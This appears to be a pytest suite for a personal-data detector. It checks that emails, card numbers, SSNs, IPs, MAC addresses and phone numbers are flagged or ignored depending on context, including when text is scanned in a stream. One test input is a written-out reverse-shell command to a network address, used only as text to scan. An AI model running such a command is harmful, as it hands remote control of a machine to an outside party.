"""What stands around a value decides whether it is a finding, whole and streamed."""

from __future__ import annotations

import random
from time import process_time

import pytest

from penstock.detection.personal_data.detector import DEFAULT, PersonalData
from penstock.detection.places.evidence import evidence_of
from penstock.detection.places.forms import email
from penstock.detection.places.labels import lead_of
from penstock.detection.spans import Span

ALL = PersonalData(DEFAULT)

PLACES = [
    ("git clone git@github.com:acme/widgets.git", ()),
    ("git remote set-url origin hg@code.example.com:a/b/c", ()),
    ("scp report.pdf deploy@files.example.com:/srv/reports/", ()),
    ("mail ada@example.comhttps://example.com/a", ("ada@example.comhttps",)),
    ("mail ada@example.com://x", ("ada@example.com",)),
    ("rsync -av --delete out/ web@www.example.com:~/site", ()),
    ("ssh -i key.pem ubuntu@ec2-3.example.com", ()),
    ("pip install git+ssh://git@github.com/acme/widgets.git", ()),
    ("write to git@gitmail.example, please", ("git@gitmail.example",)),
    ("I cannot ssh in, mail joe@example.com", ("joe@example.com",)),
    ("mail ada@example.com: she knows", ("ada@example.com",)),
    ("<img src='img/logo@2x.png'>", ()),
    ("uses: actions/setup-node@v4.main", ()),
    ("python@3.11-slim.bookworm", ()),
    ("ada@2x.example.com and ada@v4.io", ("ada@2x.example.com", "ada@v4.io")),
    ("In-Reply-To: <acme/mill/pull/12/c4821@github.com>", ()),
    ('{"iCalUID": "jvokroo8sspa5frjoihyfycs9o@google.com"}', ()),
    ('{"threadId": "joe@example.com"}', ("joe@example.com",)),
    ("Email ID: joe@example.com", ("joe@example.com",)),
    ('{"product_id": "4111111111111111"}', ()),
    ('{"order_no": 4111111111111111}', ()),
    ("order 4111 1111 1111 1111", ("4111 1111 1111 1111",)),
    ("EAN 4037646017465", ()),
    ("4037646017465", ()),
    ("my card is 4222222222222", ("4222222222222",)),
    ('{"card_number": "4222222222222"}', ("4222222222222",)),
    ("4111111111111111 bytes", ("4111111111111111",)),
    ("part numbers like 030-55-0199", ()),
    ("sku: 030-55-0199", ()),
    ("employee id 078-05-1120", ("078-05-1120",)),
    ("from 10.1.2.3, 127.0.0.1, 169.254.1.1, 192.168.0.0/16, fe80::1 and 192.0.2.10", ()),
    ("from 84.12.33.9", ("84.12.33.9",)),
    ("0.0.0.0/0 and 84.12.33.0/24", ()),
    ("Chrome/120.0.0.0 Safari/537.36", ()),
    ("requests==2.31.0.1", ()),
    ("ip == 84.12.33.9", ("84.12.33.9",)),
    ("version: 4.12.33.9", ()),
    ("bump openssl from 3.0.13.1 to 3.0.14.2", ()),
    ("## [1.2.3.4] - 2026-01-02", ()),
    ('203.0.113.77 - lea [04/Sep/2025:09:12:44 +0200] "GET / HTTP/1.1" 200', ("203.0.113.77",)),
    ("Accepted password for lea from 203.0.113.77 port 4022", ("203.0.113.77",)),
    ('{"client_ip": "203.0.113.77"}', ("203.0.113.77",)),
    ("my mac, 3c:22:fb:4a:10:a9, can you whitelist it?", ("3c:22:fb:4a:10:a9",)),
    ("My MAC is 3c:22:fb:4a:10:a9; thanks", ("3c:22:fb:4a:10:a9",)),
    ("My mac is  3c:22:fb:4a:10:a9", ("3c:22:fb:4a:10:a9",)),
    ("My MAC 3c:22:fb:4a:10:a9  Thanks", ("3c:22:fb:4a:10:a9",)),
    ("Ann's phone's hwaddr is 3c:22:fb:4a:10:a9", ("3c:22:fb:4a:10:a9",)),
    ("Ann's MAC=3c:22:fb:4a:10:a9", ("3c:22:fb:4a:10:a9",)),
    ("Her phone joined wlan0 as 3c:22:fb:4a:10:a9", ("3c:22:fb:4a:10:a9",)),
    ("Ann Lee, Main St 5, 3c:22:fb:4a:10:a9", ("3c:22:fb:4a:10:a9",)),
    ("my MAC: '3c:22:fb:4a:10:a9'", ("3c:22:fb:4a:10:a9",)),
    ("call me at 212.736-5000", ("212.736-5000",)),
    ("Ann Lee, 212.736-5000", ("212.736-5000",)),
    ("clients:\n- 12.3.4.5\n- 13.4.5.6", ("12.3.4.5", "13.4.5.6")),
    ("Medicare claim no. 536-22-1234", ("536-22-1234",)),
    ("write to _@acme.org", ("_@acme.org",)),
    ("- [x] 11.1.2.1 Send the letter", ()),
    ("DFARS 252.227-7013", ()),
    ("-@pytest.mark.slow", ()),
    ("02:42:ac:11:00:03", ()),
    ("From: Maria <maria.gonzalez.lopez85@mail.example>", ("maria.gonzalez.lopez85@mail.example",)),
    ("smtp://christopher_robinson1990@mail.example:587", ("christopher_robinson1990@mail.example",)),
    ('{"uid": "maria.lopez85@mail.example"}', ("maria.lopez85@mail.example",)),
    ("References: <CAF7x2m9q4w1z8kk3@mail.example>", ()),
    ('{"caller_id": "3175550199"}', ("3175550199",)),
    ("phone line: 3175550199", ("3175550199",)),
    ("position: (212) 736-5000", ("(212) 736-5000",)),
    ("position: 212 736 5000", ()),
    ("Rückruf bitte: 3175550199", ("3175550199",)),
    ('{"text_me": "3175550199"}', ("3175550199",)),
    ('{"phone": {"value": "3175550199"}}', ("3175550199",)),
    ('{"order": {\n  "number": "4111111111111111"}}', ()),
    ("card reference: 4111111111111111", ("4111111111111111",)),
    ("ssn for case: 536 22 8726", ("536 22 8726",)),
    ("total: 536-22-8726", ("536-22-8726",)),
    ("UPDATE users SET seen_from = '84.12.33.9' WHERE id = 7", ("84.12.33.9",)),
    ("please update the allow list with 84.12.133.9", ("84.12.133.9",)),
    ("ssh root@84.12.133.9", ("84.12.133.9",)),
    ("ssh joe@84.12.33.9", ("84.12.33.9",)),
    ("the upgrade on 84.12.33.9 failed", ("84.12.33.9",)),
    ("npm i pkg@1.2.3.4", ()),
    ("the order for 536-22-8726", ("536-22-8726",)),
    ("the order 536-22-8726", ()),
    ("\u260e 3175550199", ("3175550199",)),
    ("\U0001f4de 3175550199", ("3175550199",)),
    ("3175550199 is my number", ("3175550199",)),
    ("ring 3175550199 tonight", ("3175550199",)),
    ("del rows[::2], rows[0::2], rows[1::-2], rows[::1000]", ()),
    ("std::dead::beef and ab::cd::1", ()),
    ("from 2a00:1450:4864:20::32e port 22", ("2a00:1450:4864:20::32e",)),
    ("nat: 64:ff9b::8.8.8.8", ("64:ff9b::8.8.8.8",)),
    ("the HTML 5 spec, section 8.1.2.2, allows it", ()),
    ('sections "8.2.4.44 Bogus comment state"', ()),
    ("siehe § 8.1.2.2", ()),
    ("from linux-2.6.35.5/include/asm.h", ()),
    ("Fixes since 1.6.0.5", ()),
    ("blocked since 84.12.133.9 asked", ("84.12.133.9",)),
    ("it was vpn-84.12.33.9 that fell", ("84.12.33.9",)),
    ("dhcp-5.12.33.9.example.net and user-8.12.33.9", ("5.12.33.9", "8.12.33.9")),
    ("offline since 84.12.33.9 went away", ("84.12.33.9",)),
    ("the routing table 84.12.33.9", ("84.12.33.9",)),
    ("54E8 5546 5531 5617 5968 59BE 5A3C", ()),
    ("AB12 5546 5531 5617 5968, as CAFE 5546 5531 5617 5968", ("5546 5531 5617 5968", "5546 5531 5617 5968")),
    ("card 5546 5531 5617 5968", ("5546 5531 5617 5968",)),
    ("[84.12.33.9] - GET /", ("84.12.33.9",)),
    ("inet 84.12.33.9/24 brd 84.12.33.255", ("84.12.33.9/24", "84.12.33.255")),
    ("from 4f8a:c99e:dc86:faf9:5988:5f63:375e:8a2a it works", ("4f8a:c99e:dc86:faf9:5988:5f63:375e:8a2a",)),
    ("WWN 50:01:43:80:12:34:56:78", ()),
    ("- [X] 11.1.2.1 Send and receive", ()),
    ("ping 11.1.2.1", ("11.1.2.1",)),
    ("-@pytest.mark.anyio", ()),
    ("Clause 252.227-7013 of DFARs", ()),
    ("phone: 252.227-7013", ("252.227-7013",)),
    ('{"consignment": "777-505-9101"}', ()),
    # Packages, and places in documents.
    ("    rails (7.1.4.1)\n", ()),
    ("    railties (= 7.1.4.1)", ()),
    ('gem "rails", "~> 7.1.4.1"', ()),
    ('[assembly: AssemblyVersion("2.4.1.7")]', ()),
    ('implementation("com.github.tomakehurst:wiremock-jre8:2.35.0.1")', ()),
    ("over zlib1g:amd64 (1:1.2.13.1-1) ...", ()),
    ("zlib1g (>= 1:1.1.4.2), x", ()),
    ("User-Agent: acme-cli/2.18.0.3 (linux)", ()),
    (".. versionchanged:: 3.12.0.1", ()),
    ("## 4.9.0.80\n- Initial release", ()),
    ("      // [27.6.1.3] unformatted input", ()),
    ("// 20.5.2.3 dynamic_bitset operations:", ()),
    ("<!-- 4.4.3.13 gcd -->", ()),
    ("in subclause 23.3.7.1.", ()),
    ("# $Revision: 1.1.2.4 $", ()),
    ("See C++14 20.10.4.1, traits", ()),
    ("EC 3.4.21.5", ()),
    ("LOCATION:Room 4.2.1.7", ()),
    ("lookup/84.12.33.9", ("84.12.33.9",)),
    ("bash -i >& /dev/tcp/12.3.4.5/4444", ("12.3.4.5",)),
    ("(pele.acme.org [12.12.12.5])", ("12.12.12.5",)),
    ("ping dns (12.3.4.5)", ("12.3.4.5",)),
    ("// 84.12.33.9 is ours", ("84.12.33.9",)),
    ("http://17.25.33.9/x and ssh://8.12.4.4", ("17.25.33.9", "8.12.4.4")),
    ("the login page 17.25.33.9:8443, section 17.25.33.9/32", ("17.25.33.9", "17.25.33.9/32")),
    ("connected to db1/17.25.33.9 at last", ("17.25.33.9",)),
    ("Hosts:\n  router (17.25.33.9)\n", ("17.25.33.9",)),
    ("AWB 020-48203177", ()),
    ("US\t+394421-1045903\tAmerica/Denver", ()),
    ("ES\t+4024-00341\tEurope/Madrid", ()),
    ("+39 4421 1045903", ("+39 4421 1045903",)),
    ("Tel: +4930-12345", ("+4930-12345",)),
    ("RU\t+643337+1431336\tAsia/Ust-Nera", ()),
    ("MACs hmac-sha2-512-etm@openssh.com", ()),
    ("KexAlgorithms curve25519-sha256@libssh.org", ()),
    ("write to openssh@openssh.com", ("openssh@openssh.com",)),
    ("ask ann.lee@openssh.com, as keepalive@openssh.com fails", ("ann.lee@openssh.com",)),
    # What devices write, and what people tell.
    ("the card of my laptop is 3c:52:82:1f:00:a9.", ("3c:52:82:1f:00:a9",)),
    ("MAC: 3c:52:82:1f:00:a9", ("3c:52:82:1f:00:a9",)),
    ("Cisco MAC: 3c52.821f.00a9", ("3c52.821f.00a9",)),
    ('{"mac": "3c:52:82:1f:00:a9", "model": "USW-24"}', ()),
    ("    link/ether 3c:52:82:1f:00:a9 brd ff:ff:ff:ff:ff:ff", ()),
    ("? (10.0.0.7) at 3c:52:82:1f:00:a9 [ether] on eth0", ()),
    ("10.0.0.7 dev eth0 lladdr 3c:52:82:1f:00:a9 REACHABLE", ()),
    ("  64    3c52.821f.00a9    DYNAMIC     Gi1/0/12", ()),
    ("hardware ethernet 3c:52:82:1f:00:a9;", ()),
    ("gw dhcpd[811]: DHCPACK on 10.0.0.7 to 3c:52:82:1f:00:a9 via br0", ()),
    ("1/14,3c-52-82-1f-00-a9,20,4410", ()),
    ("MACAddress=3c:52:82:1f:00:a9", ()),
]


@pytest.mark.parametrize(("text", "expected"), PLACES)
def test_a_place_speaks_for_and_against_a_value(text: str, expected: tuple[str, ...]) -> None:
    """Names of other things, commands, files and versions speak against it."""
    assert tuple(text[one.start : one.end] for one in ALL.find(text) if one.type != "api-key") == expected


@pytest.mark.parametrize("seed", range(12))
def test_a_stream_of_places_finds_what_the_whole_text_has(seed: int) -> None:
    """Wherever the text is cut."""
    drawn = random.Random(seed)  # noqa: S311 - repeatable
    text = drawn.choice(("\n", ", ", " ")).join(drawn.sample([text for text, _ in PLACES], 12))
    notes: dict[str, object] = {}
    found: list[Span] = []
    start = at = 0
    while at < len(text):
        at = min(at + drawn.randint(1, 9), len(text))
        spans, hold = ALL.scan(text[:at], start, notes, final=at == len(text))  # type: ignore[arg-type]
        found += [one for one in spans if one.end <= hold]
        start = hold
    assert found == ALL.find(text)


def test_private_addresses_are_a_type_of_their_own() -> None:
    """Those who want them hidden choose it."""
    found = PersonalData(["private-ip"]).find("10.1.2.3, 127.0.0.1, ::1, fe80::1%eth0 and 84.12.33.9")
    assert len(found) == 4
    assert {one.type for one in found} == {"private-ip"}


def test_addresses_of_devices_are_a_type_of_their_own() -> None:
    """Those who want them hidden choose it; a container's is one, too."""
    found = PersonalData(["device-mac"]).find("ether 3c:52:82:1f:00:a9\nether 02:42:ac:11:00:02\nmy 3c:52:82:1f:00:a8")
    assert [one.type for one in found] == ["device-mac", "device-mac"]


@pytest.mark.parametrize(
    ("before", "words", "head"),
    [
        ('{"nextSyncToken": "', ("next", "sync", "token"), "token"),
        ("Order number: ", ("order", "number"), "order"),
        ("Bestellnummer ", ("bestellnummer",), "bestell"),
        ('"ids": [123, 456, ', ("ids",), "ids"),
        ("a,b,", (), ""),
        ("one line: x\n", (), ""),
    ],
)
def test_a_lead_is_the_name_of_a_value(before: str, words: tuple[str, ...], head: str) -> None:
    """A key, a label, or the words right before it, on one line."""
    lead = lead_of(before + "1", len(before))
    assert (lead.words, lead.head) == (words, head)


def test_evidence_says_what_counted() -> None:
    """The record names the label, never the value."""
    text = "card: 4222222222222"
    found = evidence_of("credit-card", text, 6, len(text))
    assert found is not None
    assert found == (3, ("label card",))
    assert evidence_of("uuid", text, 6, len(text)) is None


def test_a_long_name_in_an_address_costs_no_more_than_its_characters() -> None:
    """Letters behind letters are one word; tried in all ways to divide them, 60 letters took half a minute."""
    begun = process_time()
    email(f"{'a' * 64}12345@example.com", 0, 81)
    assert process_time() - begun < 1
